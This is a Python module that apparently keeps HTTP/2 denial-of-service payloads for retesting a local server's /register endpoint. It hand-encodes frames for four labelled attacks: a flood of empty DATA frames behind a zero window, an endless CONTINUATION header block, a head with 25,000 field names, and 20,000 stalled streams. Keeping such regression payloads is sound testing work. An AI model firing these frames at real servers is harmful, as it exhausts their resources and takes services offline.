"""HTTP/2 as bytes (RFC 9113, RFC 7541): the attacks on it are kept for the day it is spoken again."""

import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, CONTINUATION = 0, 1, 4, 9
END_HEADERS = 0x4
LARGEST = 16384
"""The octets that a frame may have without being asked for."""


def frame(kind, flags, stream, payload=b""):
    """Returns one frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


OPENING = PREFACE + frame(SETTINGS, 0, 0)
SHUT = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
"""An opening whose windows have no room: no answer with a body ends, so that its request stays under way."""


def text(value):
    """Returns a string of fewer than 127 octets, without Huffman coding."""
    return bytes([len(value)]) + value


POST, HTTPS = b"\x83", b"\x87"
REGISTER = b"\x44" + text(b"/register")
"""The path, which becomes the newest entry of the table."""
JSON = b"\x40" + text(b"content-type") + text(b"application/json")
"""The type of a body that is waited for, which becomes the newest entry."""
AGAIN = b"\xbf\xbe"
"""Both, from the table."""
AUTHORITY = b"\x01" + text(b"localhost")


def head(stream, block, ends=True):
    """Returns a header block in as many frames as it takes; one that does not end waits for more of them."""
    pieces = [block[at : at + LARGEST] for at in range(0, len(block), LARGEST)]
    flags = [0] * (len(pieces) - 1) + [END_HEADERS if ends else 0]
    kinds = [HEADERS] + [CONTINUATION] * (len(pieces) - 1)
    return b"".join(frame(kind, flag, stream, piece) for kind, flag, piece in zip(kinds, flags, pieces))


def empty_data(megabytes):
    """F1: yields the head of a request whose answer cannot end, then frames of its body without an octet in them."""
    yield SHUT
    yield head(1, POST + HTTPS + REGISTER + AUTHORITY)
    many = frame(DATA, 0, 1) * 7000
    for _ in range(megabytes * 10**6 // len(many)):
        yield many


def endless_head(names=508_000):
    """F2: yields a header block that names one entry of the table that many times and does not end."""
    entry = b"\x40" + text(b"a") + text(b"")
    yield OPENING
    yield head(1, POST + HTTPS + REGISTER + AUTHORITY + entry + b"\xbe" * names, ends=False)


def field_names(names=25_000):
    """F3: yields one head of that many field names."""
    fields = b"".join(b"\x00" + text(b"x%05d" % number) + text(b"") for number in range(names))
    yield OPENING
    yield head(1, POST + HTTPS + REGISTER + AUTHORITY + fields)


def heads(count=20_000):
    """F4: yields the heads of that many registrations, each of which waits for its body."""
    yield OPENING
    yield head(1, POST + HTTPS + REGISTER + JSON)
    # The streams of a client have odd numbers.
    yield b"".join(head(2 * number + 1, POST + HTTPS + AGAIN) for number in range(1, count))
